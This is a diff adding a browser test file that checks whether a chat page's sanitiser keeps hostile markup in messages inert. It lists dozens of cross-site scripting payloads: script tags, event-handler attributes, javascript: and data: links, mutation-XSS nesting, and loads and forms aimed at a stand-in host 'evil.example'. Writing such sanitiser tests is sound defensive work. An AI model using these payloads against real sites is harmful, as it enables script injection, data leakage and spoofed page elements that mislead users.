@@ -1,0 +1,165 @@
+"""Hostile messages, as if nobody had cleaned them: nothing runs, nothing is fetched, nothing acts."""
+
+import pytest
+from playwright.async_api import expect
+
+from proxy.chat.render import Kind, render_block
+from tests.browser.chat_page import RUN_BY_A_MESSAGE, ChatPage
+from tests.browser.conftest import Stage
+from tests.chat.hostile import HOSTILE
+
+RUN = f"{RUN_BY_A_MESSAGE}=1"
+AWAY = "//evil.example/?q"
+RAW = [
+    f"<script>{RUN}</script>",
+    f"<script src='{AWAY}'></script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src='{AWAY}'>",
+    f"<svg onload={RUN}><script>{RUN}</script><a href='javascript:{RUN}'><text>svg</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
+    f"<math href='javascript:{RUN}'><maction xlink:href='javascript:{RUN}'>m</maction></math>",
+    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
+    f"<p onclick={RUN} onmouseover={RUN} style='position:fixed;inset:0;background:url({AWAY})' id=x>p</p>",
+    f"<a href='javascript:{RUN}' target=_self>go</a><a href=' jav\tascript:{RUN}'>go</a>",
+    f"<a href='data:text/html,<script>{RUN}</script>'>go</a><a href='vbscript:x'>go</a>",
+    f"<a href='{AWAY}'>go</a>",
+    "<a href='/chat/reset' target=_top>go</a><a href='blob:https://evil.example/1'>go</a>",
+    f"<iframe src='{AWAY}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<object data='{AWAY}'></object><embed src='{AWAY}'>",
+    f"<link rel=stylesheet href='{AWAY}'><style>@import '{AWAY}';*{{background:url({AWAY})}}</style>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}'>",
+    f"<form action='{AWAY}'><input name=q value=secret autofocus onfocus={RUN}><button>send</button></form>",
+    f"<input type=image src='{AWAY}'><input type=checkbox onchange={RUN} checked>",
+    f"<video src='{AWAY}' poster='{AWAY}' autoplay></video><audio src='{AWAY}' autoplay></audio>",
+    f"<picture><source srcset='{AWAY}'><img src='{AWAY}'></picture><body background='{AWAY}'>",
+    f"<details open ontoggle={RUN}><summary>s</summary>d</details><marquee onstart={RUN}>m</marquee>",
+    f"<template><img src=x onerror={RUN}></template><noscript><img src='{AWAY}'></noscript>",
+    f"<xmp><img src=x onerror={RUN}></xmp><textarea><img src=x onerror={RUN}></textarea><title></title>",
+    f"<custom-element onclick={RUN}>c</custom-element><llm-chat></llm-chat><slot name=x></slot>",
+    "<div class='failure' role='alert'><button class='remedy'>forged</button></div>",
+    "<p class='notice wrong' role='alert' aria-live='assertive' tabindex='1' data-say='title'>forged</p>",
+    "<span class='question sr-only'>forged</span><pre><code><span class='failure k'>x</span></code></pre>",
+    f"<table background='{AWAY}'><tr><td background='{AWAY}' style='width:9999px'>t</td></tr></table>",
+    f"</div></section></article><script>{RUN}</script><div class='right'><p>forged question</p></div>",
+    f"<p>\u202eevil\u202c <a href='https://good.example@evil.example/' ping='{AWAY}' download>a</a></p>",
+    "<" * 500 + "x" + ">" * 500,
+    "<b>" * 600 + "deep",
+    f"<!--><img src=x onerror={RUN}>--><![CDATA[<img src=x onerror={RUN}>]]><?php x ?>",
+]
+KINDS = ["right", "describe", "left", "error"]
+FAULTS = """
+(log, { names, attributes }) => {
+    const faults = [];
+    for (const node of log.querySelectorAll("*")) {
+        if (!names.includes(node.localName)) {
+            faults.push(`<${node.localName}>`);
+        }
+        const link = node.localName === "a" && /^(https?|mailto):/.test(node.href)
+            && node.target === "_blank" && node.relList.contains("noopener");
+        for (const { name, value } of node.attributes) {
+            if (!attributes.includes(name) && !(link && ["href", "rel", "target"].includes(name))) {
+                faults.push(`${node.localName} ${name}=${value}`);
+            }
+        }
+    }
+    const own = ".failure, .notice, .question, .remedy, .sr-only, [role=alert], [aria-live], [id], [name]";
+    const forged = `.prose :is(${own})`;
+    return [...faults, ...[...log.querySelectorAll(forged)].map((node) => node.outerHTML)];
+}
+"""
+NAMES = (
+    "section h2 h3 h4 h5 h6 div p span strong em b i del s sub sup ul ol li blockquote pre code table "
+    "thead tbody tr th td a br hr figure figcaption details summary button svg path "
+    "math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle mpadded mphantom menclose msub msup "
+    "msubsup munder mover munderover mmultiscripts mprescripts mtable mtr mtd"
+)
+ATTRIBUTES = (
+    "class role aria-live aria-label aria-hidden tabindex open type title hidden viewBox d data-say "
+    "data-say-n data-say-label data-language start display displaystyle mathvariant stretchy fence "
+    "separator columnalign minsize maxsize lspace rspace linethickness columnspacing rowspacing width "
+    "voffset height depth accent scriptlevel movablelimits notation form"
+)
+
+
+async def nothing_acts(page: ChatPage) -> None:
+    """No element and no attribute but those that do nothing, and none of the page's own parts forged."""
+    known = {"names": NAMES.split(), "attributes": ATTRIBUTES.split()}
+    assert await page.page.locator("llm-chat .log").evaluate(FAULTS, known) == []
+    assert await page.page.evaluate(RUN_BY_A_MESSAGE) is None
+    assert await page.page.evaluate("history.length") <= 2
+
+
+async def test_nothing_in_a_message_acts_in_whatever_place_it_stands(stage: Stage) -> None:
+    stage.chat.policy = None  # the page alone has to hold
+    page = await stage.open()
+    stage.chat.ask("问")
+    for hostile in RAW:
+        stage.chat.message(hostile)
+        stage.chat.message("".join(f"<div class='{kind}'>{hostile}</div>" for kind in KINDS))
+        stage.chat.message(f"<div class='left'><p>{hostile}</p></div>")
+    stage.chat.turn("完", "都来了\n")
+    await expect(page.answer).to_have_text("都来了")
+    await page.page.locator("llm-chat .log").hover()
+    await nothing_acts(page)
+
+
+@pytest.mark.parametrize("kind", ["right", "left"])
+async def test_nothing_that_a_model_or_a_visitor_says_acts_once_it_is_rendered(
+    stage: Stage, kind: Kind
+) -> None:
+    page = await stage.open()
+    stage.chat.ask("问")
+    for hostile in HOSTILE:
+        stage.chat.message(render_block(kind, hostile))
+    stage.chat.turn("完", "都来了\n")
+    await expect(page.answer).to_have_text("都来了", timeout=20_000)
+    await nothing_acts(page)
+
+
+async def test_nothing_of_it_acts_where_nobody_rendered_it(stage: Stage) -> None:
+    stage.chat.policy = None
+    page = await stage.open()
+    stage.chat.ask("问")
+    for hostile in HOSTILE:
+        stage.chat.message(f"<div class='left'><p>{hostile}</p></div>")
+    stage.chat.turn("完", "都来了\n")
+    await expect(page.answer).to_have_text("都来了", timeout=20_000)
+    await nothing_acts(page)
+
+
+async def test_what_the_visitor_wrote_is_shown_letter_by_letter(stage: Stage) -> None:
+    page = await stage.open()
+    text = f"<img src=x onerror={RUN}> & <b>粗</b>\n    第二行"
+    await page.ask(text)
+    await expect(page.questions).to_have_count(1)
+    assert await page.questions.inner_text() == text
+
+
+async def test_what_is_no_message_is_left_alone(stage: Stage) -> None:
+    page = await stage.open()
+    odd: object
+    for odd in (
+        None,
+        7,
+        [],
+        {},
+        {"message": 7},
+        {"message": None},
+        "text",
+        {"message": ""},
+        {"message": " \n "},
+    ):
+        stage.chat.publish("message_event", odd)
+    for odd in (
+        None,
+        {},
+        {"state": "unheard-of"},
+        {"state": 7},
+        {"state": "done"},
+        {"state": "answering", "at": "x"},
+    ):
+        stage.chat.publish("state_event", odd)
+    stage.chat.turn("问", "好。\n")
+    await expect(page.answer).to_have_text("好。")
+    await expect(page.turns).to_have_count(1)
